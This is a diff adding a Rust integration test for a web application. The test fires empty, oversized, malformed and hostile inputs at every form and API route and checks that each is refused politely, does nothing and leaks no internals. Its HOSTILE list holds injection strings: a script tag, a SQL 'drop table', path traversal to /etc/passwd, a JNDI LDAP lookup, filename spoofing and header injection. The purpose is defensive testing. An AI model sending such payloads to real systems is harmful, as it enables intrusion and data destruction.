@@ -1,0 +1,189 @@
+//! Everything that a stranger may send, sent to every way into the program: it is refused in words, nothing happens
+//! and nothing breaks.
+
+#![expect(clippy::unwrap_used, reason = "a test that fails may say so by stopping")]
+#![expect(
+    clippy::disallowed_methods,
+    reason = "the installation is driven from outside: processes, files, the network"
+)]
+
+#[expect(dead_code, reason = "each test uses its part of the rig")]
+mod rig;
+
+use reqwest::Method;
+use rig::sources::{self, Route};
+use rig::stage::Stage;
+use rig::web::{Answer, Web, encoded};
+use serde_json::{Value, json};
+
+/// What a stranger may write into a field.
+const HOSTILE: [&str; 6] = [
+    "<script>alert(1)</script>",
+    "'; drop table item; --",
+    "../../../../etc/passwd",
+    "${jndi:ldap://host.invalid/a}",
+    "\u{202e}gnp.exe\u{200b}",
+    "%00 \r\nSet-Cookie: a=b",
+];
+
+/// A form of one button: sending it empty is the order itself.
+fn is_an_order_without_fields(route: &Route) -> bool {
+    let path = route.path.as_str();
+    ["/sign-out", "/rehearsal/people/{person}", "/people/{person}/password", "/people/{person}/leaving"]
+        .contains(&path)
+        || path.ends_with("/ending")
+        || path.ends_with("/confirmation")
+        || path.ends_with("/stopping")
+        // Signed until nothing: an account on which nobody has written yet.
+        || path.ends_with("/rounds")
+}
+
+/// A form of nothing but free words: those of a stranger are as good a reason as any, and as long as they like.
+fn any_words_will_do(route: &Route) -> bool {
+    route.path.ends_with("/cases/{case}/restoration")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_that_a_stranger_may_send_does_anything_or_breaks_anything() {
+    let stage = Stage::set().await;
+    let sent: Vec<Route> = sources::routes().into_iter().filter(|it| it.method != "GET").collect();
+    let fields = sources::fields();
+    for role in ["editor", "registrar", "administrator"] {
+        let (person, program) = {
+            let player = stage.rig.cast.with(role);
+            (stage.rig.visit(player).await, stage.rig.api(player))
+        };
+        let before = stage.rig.log_length().await;
+        for route in &sent {
+            let path = stage.path(&route.path).await;
+            if route.is_api() {
+                send_to_api(&program, route, &path).await;
+            } else {
+                send_to_page(&person, route, &path, &fields).await;
+            }
+            let done = stage.rig.done_since(before).await;
+            assert!(done.is_empty(), "{route:?} as {role} did something: {done:?}");
+        }
+    }
+    stale_orders_are_refused(&stage).await;
+    assert!(stage.rig.witness.carried_out(|_| true).len() == 1, "something reached the platform");
+    stage.rig.verify();
+}
+
+async fn send_to_page(person: &Web, route: &Route, path: &str, fields: &[String]) {
+    const FORM: &str = "application/x-www-form-urlencoded";
+    let proven = |body: &str| format!("_proof={}&{body}", person.proof(path)).into_bytes();
+    let all = |value: &str| -> String {
+        let pairs: Vec<String> = fields.iter().map(|it| format!("{it}={}", encoded(value))).collect();
+        pairs.join("&")
+    };
+    let mut bodies = vec![
+        ("nothing", "", Vec::new()),
+        ("no proof", FORM, all("1").into_bytes()),
+        ("a false proof", FORM, format!("_proof=AAAA&{}", all("1")).into_bytes()),
+        ("another form", "multipart/form-data; boundary=x", b"--x--".to_vec()),
+        ("json", "application/json", b"{}".to_vec()),
+        ("far too much", FORM, proven(&format!("reason={}", "a".repeat(300_000)))),
+        ("no text", FORM, [proven("reason="), vec![0xff, 0xfe]].concat()),
+        ("no text, encoded", FORM, proven("reason=%FF%FE&text=%C3%28")),
+        ("half a letter", FORM, proven("reason=%E5&text=%")),
+        ("nulls", FORM, proven("reason=%00&text=%00")),
+    ];
+    if !is_an_order_without_fields(route) {
+        bodies.push(("an empty form", FORM, proven("")));
+        if !any_words_will_do(route) {
+            bodies.extend(HOSTILE.iter().map(|it| (*it, FORM, proven(&all(it)))));
+        }
+    }
+    for (what, kind, body) in bodies {
+        let answer = person.post_bytes(path, kind, body).await;
+        refused(route, what, &answer);
+    }
+}
+
+async fn send_to_api(program: &Web, route: &Route, path: &str) {
+    const JSON: &str = "application/json";
+    let properties = sources::properties();
+    let object = |value: Value| -> Vec<u8> {
+        let pairs = properties.iter().map(|it| (it.0.clone(), value.clone()));
+        serde_json::to_vec(&Value::Object(pairs.collect())).unwrap()
+    };
+    let much = "a".repeat(300_000);
+    let too_much = json!({ "seen": 1, "text": much, "reason": much, "through": much });
+    // Numbers where numbers belong, so that the words are looked at.
+    let hostile = |text: &str| -> Vec<u8> {
+        let value = |is_number: bool| if is_number { Value::from(1) } else { text.into() };
+        let pairs = properties.iter().map(|it| (it.0.clone(), value(it.1)));
+        serde_json::to_vec(&Value::Object(pairs.collect())).unwrap()
+    };
+    let mut bodies = vec![
+        ("half an object", JSON, b"{\"text\":".to_vec()),
+        ("a list", JSON, b"[]".to_vec()),
+        ("deep", JSON, "[".repeat(100_000).into_bytes()),
+        ("a form", "application/x-www-form-urlencoded", b"text=a".to_vec()),
+    ];
+    if !is_an_order_without_fields(route) {
+        bodies.extend([("nothing", JSON, Vec::new()), ("an empty object", JSON, b"{}".to_vec())]);
+        let no_text = object("ÿþ".into()).iter().map(|it| if *it == 0xc3 { 0xff } else { *it }).collect();
+        bodies.extend([("numbers", JSON, object(1.into())), ("no text", JSON, no_text)]);
+        if !any_words_will_do(route) {
+            bodies.push(("far too much", JSON, too_much.to_string().into_bytes()));
+            bodies.extend(HOSTILE.iter().map(|it| (*it, JSON, hostile(it))));
+        }
+    }
+    for (what, kind, body) in bodies {
+        let method: Method = route.method.parse().unwrap();
+        let answer = program.send_bytes(method, path, kind, body).await;
+        refused(route, what, &answer);
+    }
+}
+
+/// Refused in words for a person, with nothing in it of what was sent or of what we are made of.
+fn refused(route: &Route, what: &str, answer: &Answer) {
+    let text = answer.text();
+    let about = format!("{} {} with {what}: {}", route.method, route.path, answer.status);
+    assert!((400..500).contains(&answer.status), "{about}\n{text}");
+    let is_said = if answer.kind.contains("json") {
+        answer.json()["title"].as_str().is_some_and(|it| it.len() > 3)
+    } else {
+        answer.kind.starts_with("text/html") && text.contains("<h1")
+    };
+    assert!(is_said, "{about} is not said in words\n{text}");
+    for leak in ["<script>alert", "panicked", "rusqlite", "tokio", "/crates/"] {
+        assert!(!text.contains(leak), "{about} answers with {leak}\n{text}");
+    }
+}
+
+/// Somebody decides about a wording, or a register entry, that is no longer what they saw.
+async fn stale_orders_are_refused(stage: &Stage) {
+    let editor = stage.rig.visit(stage.rig.cast.with("editor")).await;
+    let registrar = stage.rig.visit(stage.rig.cast.with("registrar")).await;
+    let before = stage.rig.log_length().await;
+    let item = stage.question.id;
+    let orders = [
+        (&editor, format!("/items/{item}/answers"), vec![("seen", "1"), ("text", "I kväll.")]),
+        (&editor, format!("/items/{item}/leaving"), vec![("seen", "1"), ("note", "Behövs inte.")]),
+        (
+            &editor,
+            format!("/items/{item}/moderation"),
+            vec![("seen", "1"), ("ground", "profanity"), ("act", "hide"), ("reason", "Svordomar.")],
+        ),
+        (
+            &registrar,
+            format!("/register/{}/registration", stage.entry),
+            vec![("change", "77"), ("matter", "Kommentar"), ("access", "public")],
+        ),
+        (
+            &registrar,
+            format!("/register/{}/declining", stage.entry),
+            vec![("change", "77"), ("reason", "Ringa.")],
+        ),
+    ];
+    for (web, path, fields) in orders {
+        let answer = web.post(&path, &fields).await;
+        assert!([409, 422].contains(&answer.status), "{path}: {} {}", answer.status, answer.text());
+        assert!(answer.text().contains("<h1"), "{path}");
+    }
+    let done = stage.rig.done_since(before).await;
+    assert!(done.is_empty(), "a stale order did something: {done:?}");
+}
